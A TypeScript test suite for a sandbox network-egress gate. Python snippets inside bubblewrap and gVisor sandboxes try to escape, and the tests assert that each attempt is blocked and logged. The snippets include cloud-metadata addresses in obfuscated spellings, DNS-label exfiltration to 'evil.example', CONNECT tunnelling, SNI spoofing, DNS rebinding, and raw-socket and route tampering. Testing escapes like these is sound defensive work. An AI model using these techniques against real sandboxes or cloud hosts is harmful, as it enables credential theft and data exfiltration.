import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { existsSync } from "node:fs";
import { type AddressInfo, connect, createServer, type Server } from "node:net";
import { networkInterfaces } from "node:os";
import { after, before, describe, test } from "node:test";
import { ExecInput } from "../../src/catalog/exec-input.ts";
import type { CallResult } from "../../src/contract/result.ts";
import type { IsolationClass } from "../../src/contract/tier.ts";
import { type DnsServer, startDnsServer } from "../../src/egress/dns-server.fixture.ts";
import type { Gate } from "../../src/gate.ts";
import { openGate } from "../../src/open-gate.ts";
import { nativeProgram } from "../../src/sandbox/native.ts";
import { createProject, type TestProject } from "../project.fixture.ts";
import { captured, NO_CAPTURE } from "./capture.fixture.ts";
import {
  type HttpsServer,
  startHttp2,
  startHttps,
  type TestServer,
  testAuthority,
} from "./servers.fixture.ts";

const skip =
  nativeProgram("guard") === undefined
    ? "native/guard.c was not built"
    : existsSync("/usr/bin/python3")
      ? false
      : "python3 is not installed";
const CLASSES: readonly (readonly [IsolationClass, string | false])[] = [
  ["process", existsSync("/usr/bin/bwrap") ? false : "bubblewrap is not installed"],
  ["gvisor", existsSync("/usr/bin/runsc") ? false : "runsc is not installed"],
];

/** Python that tries something; what it prints is what it got. `A` and `P` are the allowed host and port. */
interface Attack {
  readonly name: string;
  readonly code: string;
  /** In the denials; unset: the kernel refuses, and there is nothing for the gate to see. */
  readonly recorded?: RegExp;
  /** Also what it must not have got is here where it is not simply everything. */
  readonly got?: RegExp;
}

const CONNECT = `
import socket, sys
def tcp(host, port, family=0):
  try:
    for f, t, p, c, a in socket.getaddrinfo(host, port, family, socket.SOCK_STREAM):
      s = socket.socket(f, t, p); s.settimeout(5)
      s.connect(a); print("GOT", a); return s
  except OSError as e: print("no", e)
def udp(host, port, data=b"x", family=socket.AF_INET):
  try:
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
    s.sendto(data, (host, port)); print("GOT", s.recvfrom(2000))
  except OSError as e: print("no", e)
def tls(host, name, data=b"GET / HTTP/1.0\\r\\n\\r\\n", alpn=None):
  import ssl
  try:
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    if alpn: c.set_alpn_protocols(alpn)
    s = c.wrap_socket(socket.create_connection((host, P), 5), server_hostname=name)
    print("GOT"); s.sendall(data); print(s.recv(4000))
  except OSError as e: print("no", e)
def dns(name, kind, proto="udp"):
  import struct
  q = b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\\x00" + struct.pack(">HH", kind, 1)
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(q, ("198.18.0.1", 53))
  r = s.recv(2000)
  print("rcode", r[3] & 15, "answers", r[7])
`;

const METADATA = [
  "169.254.169.254",
  "2852039166",
  "0xA9FEA9FE",
  "0251.0376.0251.0376",
  "169.254.43518",
  "100.100.100.200",
  "168.63.129.16",
];
const METADATA_6 = ["::ffff:169.254.169.254", "fd00:ec2::254", "64:ff9b::a9fe:a9fe"];
const NO_ROUTE = /attempts? at an address that no rule reaches/;
const NO_LISTENER = /attempts? at a port where nobody listens/;

const ATTACKS: readonly Attack[] = [
  { name: "direct addresses", code: 'tcp("192.0.2.1", 443); tcp("1.1.1.1", 443)', recorded: NO_ROUTE },
  {
    name: "IPv6",
    code: 'tcp("2001:db8::1", 443); udp("2001:db8::1", 53, b"x", socket.AF_INET6)',
    recorded: NO_ROUTE,
  },
  {
    name: "metadata in every spelling",
    code: [...METADATA, ...METADATA_6].map((address) => `tcp("${address}", 80)`).join("; "),
    recorded: NO_ROUTE,
  },
  {
    name: "names that stand for metadata",
    code: 'tcp("metadata.test", P)',
    got: /GOT/,
    recorded: /169\.254\.169\.254/,
  },
  {
    name: "names that are not allowed",
    code: 'tcp("evil.example", 443); tcp("xa.test", P)',
    recorded: /evil\.example/,
  },
  {
    name: "other ports of an allowed host",
    code: "tcp(A, 22); tcp(A, 80); tcp(A, 8080)",
    recorded: NO_LISTENER,
  },
  {
    name: "addresses of the block without a name",
    code: 'tcp("198.18.9.9", P); tcp("198.19.255.1", 443)',
    recorded: NO_LISTENER,
  },
  {
    name: "UDP anywhere",
    code: 'udp("192.0.2.1", 53); udp("8.8.8.8", 53); udp("198.18.0.2", 53)',
    recorded: NO_ROUTE,
  },
  { name: "QUIC to an allowed host", code: 'udp(A, 443, b"\\xc0" + b"\\0" * 1200)', recorded: NO_LISTENER },
  {
    name: "a private answer",
    code: 'tcp("private.test", P)',
    got: /GOT/,
    recorded: /private\.test stands for 10\.0\.0\.1/,
  },
  { name: "another name in the ClientHello", code: 'tls(A, "evil.example")', recorded: /evil\.example/ },
  { name: "no name in the ClientHello", code: "tls(A, None)", recorded: /names? no/ },
  {
    name: "no TLS at all",
    code: 's = tcp(A, P); s.sendall(b"GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n")\ntry: print("ANSWER", s.recv(100))\nexcept OSError as e: print("no", e)',
    got: /GOT/,
    recorded: /HTTP/,
  },
  {
    name: "CONNECT through an allowed host",
    code: 's = tcp(A, P); s.sendall(b"CONNECT evil.example:443 HTTP/1.1\\r\\n\\r\\n")\ntry: print("ANSWER", s.recv(100))\nexcept OSError as e: print("no", e)',
    got: /GOT/,
    recorded: /HTTP|TLS/,
  },
  {
    name: "DNS of every type for an allowed host",
    code: "for t in (2, 5, 6, 10, 12, 13, 15, 16, 28, 33, 35, 41, 43, 46, 48, 52, 64, 65, 99, 249, 250, 251, 252, 255, 256, 257): dns(A, t)",
    got: /rcode \d+ answers 0/,
  },
  {
    name: "data in labels",
    code: 'import binascii\nfor i in range(4): dns(binascii.hexlify(bytes([i]) * 30).decode() + ".evil.example", 16)',
    got: /rcode 3 answers 0/,
    recorded: /0{10}.*\.evil\.example/,
  },
  {
    name: "DNS over TCP, TLS and HTTPS elsewhere",
    code: 'tcp("198.18.0.1", 53); tcp("198.18.0.1", 853); tcp("9.9.9.9", 853); tcp("dns.google", 443)',
    recorded: NO_LISTENER,
  },
  {
    name: "services of the host on loopback",
    code: "tcp('127.0.0.1', HOSTPORT); tcp('::1', HOSTPORT)",
    recorded: NO_LISTENER,
  },
  {
    name: "the host's own addresses",
    code: "[tcp(a, HOSTPORT) for a in HOSTADDRESSES]",
    recorded: /attempts? at/,
  },
  {
    name: "Unix sockets without a file",
    code: `
s = socket.socket(socket.AF_UNIX)
try: s.connect("\\0callgate-attack"); print("GOT")
except OSError as e: print("no", e)`,
  },
  {
    name: "raw and packet sockets",
    code: `
for f, t, p in ((2, 3, 1), (10, 3, 58), (17, 3, 0x300), (16, 3, 0), (40, 1, 0)):
  try: socket.socket(f, t, p); print("GOT", f, t)
  except OSError as e: print("no", e)`,
  },
  {
    name: "routes and addresses of its own",
    code: `
import subprocess
for c in ("ip addr add 10.9.9.9/32 dev lo", "ip route add default dev lo", "ip link set lo down", "unshare -rn true"):
  r = subprocess.run(c.split(), capture_output=True); print("GOT" if r.returncode == 0 else "no", c)`,
  },
];

/** Those of this machine, without those of a link alone. */
function ownAddresses(): readonly string[] {
  const all = Object.values(networkInterfaces()).flatMap((some = []) => some.map(({ address }) => address));
  return all.filter((address) => !address.startsWith("fe80:"));
}

async function reached(host: string, port: number): Promise<void> {
  await new Promise<void>((done, fail) => {
    const socket = connect(port, host, () => {
      socket.destroy();
      done();
    }).on("error", fail);
  });
}

describe("attacks on the edge of the network", { skip }, () => {
  const stack = new AsyncDisposableStack();
  let project: TestProject;
  let gate: Gate;
  let dns: DnsServer;
  let https: HttpsServer;
  let http2: TestServer;
  let loopback: Server;
  let hostPort = 0;
  /** Of `rebind.test`: what it stands for, ask by ask. */
  const rebinding = [["192.0.2.9"], ["127.0.0.1"]];

  before(async () => {
    const authority = await testAuthority();
    https = stack.use(await startHttps(authority));
    http2 = stack.use(await startHttp2(authority));
    // A service of the host's desktop, so to say, and one that can be reached from outside of a sandbox.
    const desktop = createServer((socket) => socket.on("error", () => {}).end());
    await new Promise<void>((done) => desktop.listen("\0callgate-attack", done));
    stack.defer(() => void desktop.close());
    for (const where of [{ path: "\0callgate-attack" }])
      await new Promise<void>((done, fail) => {
        const socket = connect(where, () => done(socket.destroy() && undefined)).on("error", fail);
      });
    loopback = createServer((socket) => socket.on("error", () => {}).end("a service of the host"));
    await new Promise<void>((done) => loopback.listen(0, "::", done));
    hostPort = (loopback.address() as AddressInfo).port;
    // From outside of a sandbox it can be reached, on every address that the attacks try.
    for (const host of ["127.0.0.1", "::1", ...ownAddresses()]) await reached(host, hostPort);
    stack.defer(() => void loopback.close());
    const fixed: Record<string, readonly string[]> = {
      "a.test": ["127.0.0.1"],
      "metadata.test": ["169.254.169.254"],
      "private.test": ["10.0.0.1"],
      "evil.example": ["127.0.0.1"],
    };
    dns = stack.use(
      await startDnsServer({
        answers: (name: string, type: string) =>
          type === "A" && name === "rebind.test"
            ? (rebinding.shift() ?? [])
            : (type === "A" && fixed[name]) || [],
      }),
    );
    project = createProject({
      "callgate.yaml": `version: 1\negress: { resolvers: ["${dns.address}"], authorities: [ca.pem] }\n`,
      "ca.pem": authority.pem,
    });
    stack.defer(() => project[Symbol.dispose]());
    gate = stack.use(await openGate({ workingDirectory: project.workspace, state: project.state }));
  });
  after(() => stack.disposeAsync());

  const python = (
    code: string,
    isolation: IsolationClass,
    port: number = https.port,
  ): Promise<CallResult> => {
    const own = ownAddresses();
    const heading = `A, P, HOSTPORT, HOSTADDRESSES = "a.test", ${port}, ${hostPort}, ${JSON.stringify(own)}\n`;
    const names = [
      `a.test:${port},tls,private`,
      `metadata.test:${port},tcp,private`,
      `private.test:${port},tcp`,
    ];
    return gate.call({
      tool: "callgate.exec",
      input: new ExecInput({
        command: ["/usr/bin/python3", "-c", heading + CONNECT + code],
        hosts: [...names, `rebind.test:${port},tcp`],
        isolation,
        workingDirectory: project.workspace,
      }),
    });
  };

  const attack = async (
    { code, recorded, got = /^no / }: Attack,
    isolation: IsolationClass,
  ): Promise<CallResult> => {
    const before = https.seen.length;
    const result = await python(code, isolation);
    assert.equal(result.exitCode, 0, `it ran to its end: ${result.stderr}`);
    const lines = result.stdout.trim().split("\n");
    assert.ok(
      lines.every((line) => /^no /.test(line) || got.test(line)),
      `${result.stdout}${result.stderr}`,
    );
    assert.ok(!/ANSWER b'[^']/.test(result.stdout), result.stdout);
    assert.equal(https.seen.length, before, "the host saw nothing");
    const denials = result.denials.map(({ what, why }) => `${what}: ${why}`).join("\n");
    if (recorded !== undefined) {
      assert.match(denials, recorded);
      const entries = await gate.log.entriesOfCall(result.call);
      assert.ok(
        entries.some(({ entry }) => entry["kind"] === "egress"),
        "recorded",
      );
    }
    return result;
  };

  for (const [isolation, missing] of CLASSES) {
    describe(isolation, { skip: missing }, () => {
      for (const one of ATTACKS) {
        test(one.name, async (t) => {
          const result = await attack(one, isolation);
          t.diagnostic(`${result.usage?.wallMs.toFixed(0)} ms`);
        });
      }
    });
  }

  test("a name that comes to stand for a private address is refused, each connection by its own answer", async () => {
    const first = await python('tcp("rebind.test", P)', "process");
    const second = await python('tcp("rebind.test", P)', "process");
    assert.match(JSON.stringify(second.denials), /rebind\.test stands for 127\.0\.0\.1/);
    assert.equal(
      dns.asked.filter((asked) => asked === "rebind.test A").length,
      2,
      "once for each connection",
    );
    assert.ok(!/a service/.test(first.stdout + second.stdout));
  });

  test("what HTTP/2 asks for inside of a passed-through connection is not seen, as the documents say", async () => {
    const code = `
import subprocess
print(subprocess.run(["curl", "-sS", "--http2", "-H", "Host: other.test", f"https://{A}:{P}/"], capture_output=True, text=True).stdout)`;
    const { stdout, denials } = await python(code, "process", http2.port);
    assert.match(stdout, /h2 for other\.test/);
    assert.deepEqual(denials, []);
  });

  test("no packet leaves the host", { skip: NO_CAPTURE }, async (t) => {
    const control = await captured(async () => {
      const socket = createSocket("udp4");
      await new Promise<void>((done) => socket.send("x", https.port, "192.0.2.1", () => done()));
      socket.close();
    }, [https.port]);
    if (control.length === 0) return t.skip("this machine has no way out that a packet could take");
    assert.match(control.join("\n"), new RegExp(`192\\.0\\.2\\.1:${https.port}`));
    for (const [isolation, missing] of CLASSES) {
      if (missing !== false) continue;
      const packets = await captured(async () => {
        for (const one of ATTACKS) await attack(one, isolation);
      }, [https.port, hostPort, 8080]);
      assert.deepEqual(packets, [], isolation);
    }
  });
});
